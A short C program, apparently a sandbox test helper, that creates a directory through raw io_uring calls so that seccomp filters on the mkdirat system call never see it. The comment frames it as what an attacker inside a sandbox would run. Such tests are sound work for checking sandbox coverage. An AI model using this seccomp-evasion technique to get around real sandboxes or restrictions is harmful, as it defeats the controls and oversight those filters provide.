/*
 * The io_uring walk-around, as an attacker inside a target would run it: mkdirat(AT_FDCWD, PATH,
 * 0700) as IORING_OP_MKDIRAT through raw io_uring_setup / io_uring_enter, so the kernel performs
 * the mkdir without a mkdirat system call for seccomp to see.
 *   usage: uring_mkdirat PATH
 *   exit: 0 the directory was made; 3 io_uring_setup failed; 4 the op failed (errno on stderr)
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    if (argc != 2) {
        fprintf(stderr, "usage: %s PATH\n", argv[0]);
        return 2;
    }
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    int ring = (int) syscall(__NR_io_uring_setup, 1, &p);
    if (ring < 0) {
        fprintf(stderr, "io_uring_setup: %s\n", strerror(errno));
        return 3;
    }
    size_t sq_size = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cq_size = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    char *sq = mmap(NULL, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    char *cq = mmap(NULL, cq_size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
    struct io_uring_sqe *sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
                                     MAP_SHARED, ring, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) {
        perror("mmap");
        return 4;
    }
    memset(&sqes[0], 0, sizeof sqes[0]);
    sqes[0].opcode = IORING_OP_MKDIRAT;
    sqes[0].fd = AT_FDCWD;
    sqes[0].addr = (unsigned long) argv[1];
    sqes[0].len = 0700;
    unsigned *tail = (unsigned *) (sq + p.sq_off.tail);
    ((unsigned *) (sq + p.sq_off.array))[*tail & *(unsigned *) (sq + p.sq_off.ring_mask)] = 0;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    if (syscall(__NR_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) {
        fprintf(stderr, "io_uring_enter: %s\n", strerror(errno));
        return 4;
    }
    unsigned head = __atomic_load_n((unsigned *) (cq + p.cq_off.head), __ATOMIC_ACQUIRE);
    struct io_uring_cqe *cqe = (struct io_uring_cqe *) (cq + p.cq_off.cqes)
                               + (head & *(unsigned *) (cq + p.cq_off.ring_mask));
    if (cqe->res < 0) {
        fprintf(stderr, "IORING_OP_MKDIRAT: %s\n", strerror(-cqe->res));
        return 4;
    }
    return 0;
}
